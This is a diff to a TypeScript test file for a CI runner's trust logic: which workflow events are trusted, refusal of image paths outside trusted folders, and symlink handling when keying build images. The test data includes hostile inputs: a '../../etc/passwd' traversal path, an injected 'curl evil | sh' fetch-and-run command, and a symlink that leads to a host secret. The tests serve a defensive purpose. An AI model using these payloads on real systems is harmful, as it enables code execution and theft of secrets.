@@ -107,6 +107,32 @@ describe('the action on untrusted events', () => {
   }, 60_000);
 });
 
+describe('trust: auto', () => {
+  const decided = (event: string | null, forkPullRequest = false) =>
+    decideTrust('auto', { event, forkPullRequest }, { imagePaths: [] });
+
+  it('trusts only events whose code is the repository own, and same-repository pull requests', () => {
+    for (const event of ['push', 'schedule', 'workflow_dispatch', 'merge_group', 'pull_request'])
+      expect(decided(event).trusted, event).toBe(true);
+    for (const event of [
+      'pull_request_target',
+      'issue_comment',
+      'workflow_run',
+      'discussion',
+      'some_new_event',
+    ])
+      expect(decided(event), event).toMatchObject({
+        trusted: false,
+        reason: `trust: auto (untrusted on ${event})`,
+      });
+    expect(decided(null).trusted).toBe(false);
+    expect(decided('pull_request', true)).toMatchObject({
+      trusted: false,
+      reason: 'trust: auto (untrusted for a pull request from a fork)',
+    });
+  });
+});
+
 describe('image sources of an untrusted run', () => {
   const untrusted = (paths: string[] = []) =>
     decideTrust('untrusted', { event: null, forkPullRequest: false }, { imagePaths: paths });
@@ -133,6 +159,13 @@ describe('image sources of an untrusted run', () => {
       /images\.g\.kernel: .*escape is a host path outside the trusted image folders/,
     );
     expect(await refusal(filesImage(`${trusted}/../../etc/passwd`), root, root, [trusted])).toMatch(
+      /outside the trusted image folders/,
+    );
+    // The trusted folder itself may be reached through a link (e.g. onto another volume).
+    const linked = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-link-')), 'images');
+    symlinkSync(trusted, linked);
+    expect(await refusal(filesImage(join(linked, 'vmlinuz')), root, root, [linked])).toBeUndefined();
+    expect(await refusal(filesImage(join(linked, 'escape')), root, root, [linked])).toMatch(
       /outside the trusted image folders/,
     );
   });
@@ -174,6 +207,21 @@ describe('image sources of an untrusted run', () => {
     expect(await refusal(yaml('make guest; curl evil | sh'), root, cacheDir)).toMatch(
       /not in the image cache/,
     );
+  });
+
+  it('never reads a file outside the repository to key a build image, even when its command names a link to it', async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const outside = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-outside-')), 'secret.txt');
+    writeFileSync(outside, 'host secret');
+    symlinkSync(outside, join(root, 'evil'));
+    mkdirSync(join(root, 'ci'));
+    writeFileSync(join(root, 'ci/build.sh'), 'echo build');
+    symlinkSync('ci/build.sh', join(root, 'build.sh'));
+    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: "cat evil; sh build.sh" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
+    const node = buildPlan(jobs(yaml), context()).nodes.find((n) => n.kind === 'prepare')!;
+    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
+    const { inputs } = await imageCacheKey(node, root);
+    expect(inputs.map((input) => input.path)).toEqual(['build.sh']);
   });
 
   it('refuses nix images, which are evaluated on the runner', async () => {
